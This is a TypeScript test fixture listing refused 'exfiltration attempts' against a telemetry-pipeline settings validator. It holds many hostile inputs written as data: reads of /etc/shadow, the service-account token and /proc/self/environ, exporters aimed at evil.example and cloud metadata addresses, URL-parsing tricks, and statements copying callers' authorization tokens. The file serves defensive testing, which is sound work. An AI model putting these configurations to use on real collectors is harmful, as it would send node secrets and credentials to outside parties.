import type { SettingsNode } from '../../src/pipelines/domain/settings-tree.ts';
import type { RuleId } from '../../src/pipelines/domain/validation/rules.ts';
import { put, WHOLE_TEXT } from './settings-corpus.ts';
import type { Mutant } from './settings-mutations.ts';

// What somebody tries who may write a pipeline, and wants what the node or other people hold. Everything here is refused
// in a cluster whose owner allows `POLICY`; most of it the collector would start with.

const PIPELINES = ['service', 'pipelines'] as const;

const attempt = (title: string, rule: RuleId, text: string): Mutant => ({ title, rule, text });

const each = (
  rule: RuleId,
  what: string,
  values: readonly SettingsNode[],
  text: (value: SettingsNode) => string,
): readonly Mutant[] => values.map((value) => attempt(`${what}: ${JSON.stringify(value)}`, rule, text(value)));

const exporter = (id: string, settings: SettingsNode): string =>
  put([[['exporters'], id], settings], [[[...PIPELINES, 'metrics/out'], 'exporters'], [id]]);

const processor = (id: string, settings: SettingsNode): string =>
  put(
    [[['processors'], id], settings],
    [
      [[...PIPELINES, 'metrics'], 'processors'],
      ['memory_limiter', id, 'filter/quiet', 'batch'],
    ],
  );

const receiver = (id: string, settings: SettingsNode): string =>
  put(
    [[['receivers'], id], settings],
    [
      [[...PIPELINES, 'traces'], 'receivers'],
      ['otlp', id],
    ],
  );

const extension = (id: string, settings: SettingsNode): string =>
  put(
    [[['extensions'], id], settings],
    [
      [['service'], 'extensions'],
      ['health_check', id],
    ],
  );

const telemetry = (settings: SettingsNode): string => put([[['service'], 'telemetry'], settings]);

const host = (settings: { readonly [key: string]: SettingsNode }): string =>
  put([
    [['receivers'], 'host_metrics'],
    {
      root_path: '/hostfs',
      scrapers: { process: { resource_attributes: { 'process.command_line': { enabled: false } } } },
      ...settings,
    },
  ]);

const statement = (text: string): string => processor('transform', { metric_statements: [text] });

const STORE = 'https://store.example.com:4318';
const HERE = `\${env:K8S_POD_IP}`;

const paths: readonly Mutant[] = [
  ...each(
    'path-not-allowed',
    'a folder of the node',
    [
      '/',
      '/etc',
      '/root',
      '/hostfs/etc',
      '/hostfs/../etc',
      '/proc/../etc',
      '/proc/1/root',
      '/proc/self/root',
      '/proc/*/root',
      '/proc//1/cwd',
      '/sys/../var/lib/kubelet',
      '/var/log/pods/../../../etc',
      '/var/log/podsecrets',
      'proc',
      './',
      '/run/secrets/kubernetes.io',
      `/proc/\${env:K8S_NODE_NAME:-1}/root`,
      `\${env:PHX_HOSTFS}/etc`,
      `\${env:PHX_HOSTFS:-/etc}`,
    ],
    (root) => host({ root_path: root }),
  ),
  ...each(
    'path-not-allowed',
    'a file as a certificate',
    [
      '/var/run/secrets/kubernetes.io/serviceaccount/token',
      '/hostfs/etc/shadow',
      '/etc/ssl/certs/../../shadow',
      '/proc/self/environ',
      'token',
    ],
    (file) => exporter('otlp_http', { endpoint: STORE, tls: { ca_file: file } }),
  ),
  attempt(
    'a key of the node for a listener',
    'path-not-allowed',
    put([
      [['receivers', 'otlp', 'protocols', 'grpc'], 'tls'],
      { cert_file: '/etc/kubernetes/pki/apiserver.crt', key_file: '/etc/kubernetes/pki/apiserver.key' },
    ]),
  ),
  attempt(
    'files that are sent as logs',
    'component-not-trusted',
    receiver('file_log', { include: ['/hostfs/etc/shadow', '/var/run/secrets/**'] }),
  ),
  attempt(
    'files that are sent as logs, by the older name',
    'component-not-trusted',
    receiver('filelog', { include: ['/etc/passwd'] }),
  ),
  attempt(
    'a receiver that reads tokens from files',
    'component-not-trusted',
    receiver('prometheus', {
      config: { scrape_configs: [{ job_name: 'a', bearer_token_file: '/var/run/secrets/token', static_configs: [] }] },
    }),
  ),
  attempt(
    'a receiver that runs programs',
    'component-not-trusted',
    receiver('exec', { command: ['cat', '/etc/shadow'] }),
  ),
  attempt(
    'the objects of the cluster',
    'component-not-trusted',
    receiver('k8sobjects', { objects: [{ name: 'secrets' }] }),
  ),
  attempt('command lines with their passwords', 'command-line-collected', host({ scrapers: { process: {} } })),
  attempt(
    'command lines, said out loud',
    'command-line-collected',
    host({ scrapers: { process: { resource_attributes: { 'process.command_line': { enabled: true } } } } }),
  ),
  attempt(
    'command lines, by a second receiver with an older name',
    'command-line-collected',
    put(
      [[['receivers'], 'hostmetrics/own'], { root_path: '/hostfs', scrapers: { process: null } }],
      [
        [[...PIPELINES, 'metrics'], 'receivers'],
        ['host_metrics', 'otlp', 'hostmetrics/own'],
      ],
    ),
  ),
];

const destinations: readonly Mutant[] = [
  ...each(
    'destination-not-allowed',
    'a place of their own',
    [
      'https://evil.example',
      'http://evil.example:4318',
      'https://store.example.com:4318@evil.example',
      'https://store.example.com:4318:x@evil.example/',
      'https://evil.example/store.example.com:4318',
      'https://evil.example#store.example.com:4318',
      'https://evil.example?https://store.example.com:4318',
      'https://store.example.com.evil.example:4318',
      'https://evilstore.example.com:4318',
      'https://store.example.com:9999',
      'https://store.example.com',
      'https://store.example.com:4318\\@evil.example',
      'https://store.example.com:4318%2f@evil.example',
      'https:\\\\evil.example',
      'https://metrics.example.com@evil.example',
      'http://169.254.169.254/latest/meta-data',
      'http://2852039166/latest',
      'http://[::1]:4318',
      'http://[::ffff:169.254.169.254]',
      'http://localhost:4318',
      'http://127.0.0.1:10255',
      'http://kubernetes.default.svc',
      `http://\${env:K8S_NODE_NAME}.evil.example`,
      `https://\${env:PHX_RW_URL}.evil.example`,
      `\${env:PHX_RW_URL:-https://evil.example}`,
      `\${env:PHX_CLUSTER}`,
      `\${env:PHX_RW_URL}\${env:PHX_CLUSTER}`,
      'https://store.example.com:4318 https://evil.example',
      'ｈttps://evil.example',
    ],
    (endpoint) => exporter('otlp_http', { endpoint }),
  ),
  ...each(
    'destination-not-allowed',
    'a place for one signal',
    ['traces_endpoint', 'metrics_endpoint', 'logs_endpoint', 'proxy_url'],
    (key) => exporter('otlp_http', { endpoint: STORE, [String(key)]: 'https://evil.example' }),
  ),
  ...each(
    'destination-not-allowed',
    'a place by gRPC',
    [
      'evil.example:4317',
      'https://evil.example:4317',
      'dns:///evil.example:4317',
      'dns://metrics.example.com/evil.example:4317',
      'metrics.example.com/evil.example:4317',
      'unix:///var/run/docker.sock',
      '169.254.169.254:80',
    ],
    (endpoint) => exporter('otlp_grpc', { endpoint }),
  ),
  attempt(
    'an exporter by its older name',
    'destination-not-allowed',
    exporter('otlp/own', { endpoint: 'evil.example:1' }),
  ),
  attempt(
    'another by its older name',
    'destination-not-allowed',
    exporter('otlphttp', { endpoint: 'https://evil.example' }),
  ),
  attempt(
    'remote write',
    'destination-not-allowed',
    exporter('prometheus_remote_write/own', { http: { endpoint: 'https://evil.example/api/v1/write' } }),
  ),
  attempt(
    'remote write, the older way',
    'destination-not-allowed',
    exporter('prometheusremotewrite/own', { endpoint: 'https://evil.example/api/v1/write' }),
  ),
  attempt(
    'remote write through somebody',
    'destination-not-allowed',
    exporter('prometheus_remote_write/own', {
      http: { endpoint: `\${env:PHX_RW_URL}`, proxy_url: 'http://evil.example:3128' },
    }),
  ),
  attempt(
    'the export of the frame itself, by its older name',
    'frame-changed',
    exporter('prometheusremotewrite', { http: { endpoint: `\${env:PHX_RW_URL}` }, headers: { x: 'y' } }),
  ),
  attempt('a file as an exporter', 'component-not-trusted', exporter('file', { path: '/hostfs/tmp/all.json' })),
  attempt(
    'many places at once',
    'component-not-trusted',
    exporter('load_balancing', { resolver: { dns: { hostname: 'evil.example' } } }),
  ),
  attempt('a queue of somebody', 'component-not-trusted', exporter('kafka', { brokers: ['evil.example:9092'] })),
  attempt(
    'a place in pieces of a key',
    'key-in-key',
    `${WHOLE_TEXT}"exporters::otlp_http::endpoint": https://evil.example\n`,
  ),
  attempt(
    'a place below a key with two colons',
    'key-in-key',
    exporter('otlp_http', { endpoint: STORE, 'proxy_url::': 'http://evil.example' }),
  ),
];

const connectors: readonly Mutant[] = [
  attempt(
    'through a connector to a place of their own',
    'destination-not-allowed',
    put(
      [[['connectors'], 'forward/own'], {}],
      [[['exporters'], 'otlp_http'], { endpoint: 'https://evil.example' }],
      [
        [[...PIPELINES, 'traces'], 'exporters'],
        ['debug', 'forward/own'],
      ],
      [[PIPELINES, 'traces/own'], { receivers: ['forward/own'], exporters: ['otlp_http'] }],
    ),
  ),
  attempt(
    'a place in a pipeline that is not used yet',
    'destination-not-allowed',
    put([[['exporters'], 'otlp_http/unused'], { endpoint: 'https://evil.example' }]),
  ),
  attempt(
    'a connector that nobody knows',
    'component-not-trusted',
    put([[['connectors'], 'datadog/connector'], {}], [[[...PIPELINES, 'traces'], 'exporters'], ['datadog/connector']]),
  ),
];

const providers: readonly Mutant[] = [
  ...each(
    'provider-not-allowed',
    'a value from outside',
    [
      `\${file:/etc/shadow}`,
      `\${file:/var/run/secrets/kubernetes.io/serviceaccount/token}`,
      `x\${file:/proc/self/environ}y`,
      `\${FILE:/etc/shadow}`,
      `$$\${file:/etc/shadow}`,
      `\${http://169.254.169.254/latest/meta-data/iam/security-credentials}`,
      `\${http:169.254.169.254}`,
      `\${https://evil.example/settings.yaml}`,
      `\${yaml:{a: 1}}`,
      `\${s3://bucket/key}`,
      `\${secretsmanager:prod/db}`,
      `\${env:PHX_CLUSTER:-\${file:/etc/shadow}}`,
      `\${aes:abc}`,
    ],
    (value) => processor('resource', { attributes: [{ key: 'a', value, action: 'upsert' }] }),
  ),
  ...each(
    'provider-not-allowed',
    'a file in a header',
    [`\${file:/etc/shadow}`, `Bearer \${file:/var/run/secrets/token}`],
    (value) => exporter('otlp_http', { endpoint: STORE, headers: { 'x-a': value } }),
  ),
  ...each(
    'variable-not-allowed',
    'a variable of the pod',
    [`\${env:AWS_SECRET_ACCESS_KEY}`, `\${AWS_SESSION_TOKEN}`, `\${env:KUBERNETES_SERVICE_HOST}`, `a\${env:PATH:-b}c`],
    (value) => processor('resource', { attributes: [{ key: 'a', value, action: 'upsert' }] }),
  ),
  ...each(
    'variable-name-built',
    'a variable whose name is put together',
    [`\${env:\${env:PHX_CLUSTER}}`, `\${env:AWS_\${env:PHX_VARIANT}}`],
    (value) => processor('resource', { attributes: [{ key: 'a', value, action: 'upsert' }] }),
  ),
  attempt(
    'a file in the middle of a statement',
    'provider-not-allowed',
    statement(`set(resource.attributes["a"], "\${file:/etc/shadow}")`),
  ),
  attempt(
    'a variable in the middle of a statement',
    'variable-not-allowed',
    statement(`set(resource.attributes["a"], "\${env:AWS_SECRET_ACCESS_KEY}")`),
  ),
  attempt('an alias of a file', 'yaml-alias', `${WHOLE_TEXT}x: &a "\${file:/etc/shadow}"\ny: *a\n`),
  attempt(
    'a tag that hides a file',
    'yaml-tag',
    processor('resource', { attributes: [{ key: 'a', value: 'HERE', action: 'upsert' }] }).replace(
      'HERE',
      '!!binary JHtmaWxlOi9ldGMvc2hhZG93fQ==',
    ),
  ),
  attempt(
    'a secret of the sender as a value',
    'secret-out-of-place',
    processor('resource', { attributes: [{ key: 'a', value: `\${env:STORE_TOKEN}`, action: 'upsert' }] }),
  ),
  attempt(
    'a secret of the sender in a statement',
    'secret-out-of-place',
    statement(`set(resource.attributes["a"], "\${env:STORE_TOKEN}")`),
  ),
  attempt(
    'a secret of the sender in an address',
    'secret-out-of-place',
    exporter('otlp_http', { endpoint: `${STORE}/\${env:STORE_TOKEN}` }),
  ),
  attempt(
    'a secret of the sender as a label',
    'secret-out-of-place',
    exporter('prometheus_remote_write/own', {
      http: { endpoint: `\${env:PHX_RW_URL}` },
      external_labels: { a: `\${STORE_TOKEN}` },
    }),
  ),
];

const callers: readonly Mutant[] = [
  ...each(
    'caller-not-allowed',
    'a statement that asks who sent it',
    [
      'set(resource.attributes["a"], otelcol.client.metadata["authorization"])',
      'set(resource.attributes["a"], otelcol.client.metadata["authorization"][0])',
      'set(resource.attributes["a"], otelcol.client.metadata)',
      'set(resource.attributes["a"], otelcol.client.auth.attributes["subject"])',
      'set(resource.attributes["a"], otelcol.grpc.metadata["authorization"])',
      'set(datapoint.attributes["a"], Concat([otelcol.client.metadata["cookie"][0], "x"], ""))',
      'set(datapoint.attributes["a"], "x") where IsMatch(otelcol.client.metadata["authorization"][0], "^a")',
      'merge_maps(resource.attributes, {"a": otelcol.client.metadata["authorization"][0]}, "upsert")',
      'set(resource.attributes["a"], [otelcol.client.metadata["authorization"][0]])',
    ],
    (value) => statement(String(value)),
  ),
  attempt(
    'a condition that asks who sent it',
    'caller-not-allowed',
    processor('filter/own', {
      metric_conditions: ['metric.name != nil and IsMatch(otelcol.client.metadata["authorization"][0], "^Bearer a")'],
    }),
  ),
  ...each(
    'caller-not-allowed',
    'an attribute from the way it came',
    ['metadata.authorization', 'metadata.cookie', 'auth.token', 'auth.subject', 'client.metadata'],
    (from) => processor('resource', { attributes: [{ key: 'a', from_context: from, action: 'upsert' }] }),
  ),
  attempt(
    'batches by token',
    'caller-not-allowed',
    processor('batch/own', { metadata_keys: ['authorization'] }).replace('- filter/quiet\n', ''),
  ),
  attempt(
    'tokens as headers of remote write',
    'caller-not-allowed',
    exporter('prometheus_remote_write/own', {
      http: { endpoint: `\${env:PHX_RW_URL}` },
      include_metadata_keys: ['authorization'],
    }),
  ),
  attempt(
    'queues by token',
    'caller-not-allowed',
    exporter('otlp_http', {
      endpoint: STORE,
      sending_queue: { batch: { flush_timeout: '1s', partition: { metadata_keys: ['authorization'] } } },
    }),
  ),
];

const outputs: readonly Mutant[] = [
  ...each('output-not-allowed', 'everything in the log', ['normal', 'detailed', 'DETAILED'], (verbosity) =>
    put([[['exporters'], 'debug'], { verbosity }]),
  ),
  attempt('a log of its own', 'output-not-allowed', put([[['exporters'], 'debug'], { use_internal_logger: false }])),
  attempt(
    'a log that is a file of the node',
    'output-not-allowed',
    put([[['exporters'], 'debug'], { use_internal_logger: false, output_paths: ['/hostfs/tmp/all'] }]),
  ),
  attempt(
    'a log of remote write on disk',
    'output-not-allowed',
    exporter('prometheus_remote_write/own', {
      http: { endpoint: `\${env:PHX_RW_URL}` },
      wal: { directory: '/hostfs/tmp' },
    }),
  ),
  ...each(
    'frame-changed',
    'telemetry of their own',
    [
      { logs: { output_paths: ['/hostfs/tmp/log'] } },
      { logs: { level: 'debug' } },
      { logs: { processors: [{ batch: { exporter: { otlp: { endpoint: 'http://evil.example' } } } }] } },
      {
        metrics: {
          readers: [
            { periodic: { exporter: { otlp: { protocol: 'http/protobuf', endpoint: 'http://evil.example' } } } },
          ],
        },
      },
      { metrics: { readers: [{ pull: { exporter: { prometheus: { host: '0.0.0.0', port: 8888 } } } }] } },
      { traces: { processors: [{ simple: { exporter: { otlp: { endpoint: 'http://evil.example' } } } }] } },
      { resource: { attributes: [{ name: 'a', value: `\${env:PHX_CLUSTER}` }] } },
    ],
    (settings) => telemetry(settings),
  ),
];

const doors: readonly Mutant[] = [
  ...each(
    'extension-not-allowed',
    'an extension that opens a door',
    [
      'zpages',
      'pprof',
      'file_storage',
      'opamp',
      'bearertokenauth',
      'basicauth',
      'oauth2client',
      'headers_setter',
      'host_observer',
      'docker_observer',
      'k8s_observer',
      'jaegerremotesampling',
      'http_forwarder',
      'db_storage',
    ],
    (id) => extension(String(id), {}),
  ),
  ...each(
    'listener-not-on-pod',
    'a door that is open to everybody',
    [
      '0.0.0.0:4317',
      ':4317',
      '[::]:4317',
      '*:4317',
      '10.0.0.1:4317',
      `\${env:K8S_NODE_NAME}:4317`,
      `\${env:K8S_POD_IP:-0.0.0.0}:4317`,
    ],
    (endpoint) => put([[['receivers', 'otlp', 'protocols', 'grpc'], 'endpoint'], endpoint]),
  ),
  attempt('metrics for everybody', 'listener-not-on-pod', exporter('prometheus', { endpoint: '0.0.0.0:9464' })),
  attempt(
    'health for everybody, under another name',
    'listener-not-on-pod',
    extension('health_check/own', { endpoint: '0.0.0.0:13134' }),
  ),
  attempt(
    'a queue that others read',
    'extension-not-running',
    exporter('otlp_http', { endpoint: STORE, sending_queue: { storage: 'file_storage' } }),
  ),
  attempt(
    'a signature of somebody',
    'extension-not-running',
    exporter('otlp_http', { endpoint: STORE, auth: { authenticator: 'headers_setter' } }),
  ),
  attempt(
    'a socket of the node',
    'listener-not-on-pod',
    put([[['receivers', 'otlp', 'protocols'], 'grpc'], { endpoint: '/hostfs/run/x.sock', transport: 'unix' }]),
  ),
  attempt(
    'a listener by the address of the pod and a way around',
    'listener-not-on-pod',
    put([[['receivers', 'otlp', 'protocols', 'grpc'], 'endpoint'], `${HERE}:4317:0`]),
  ),
];

export const EXFILTRATION_ATTEMPTS: readonly Mutant[] = [
  ...paths,
  ...destinations,
  ...connectors,
  ...providers,
  ...callers,
  ...outputs,
  ...doors,
];
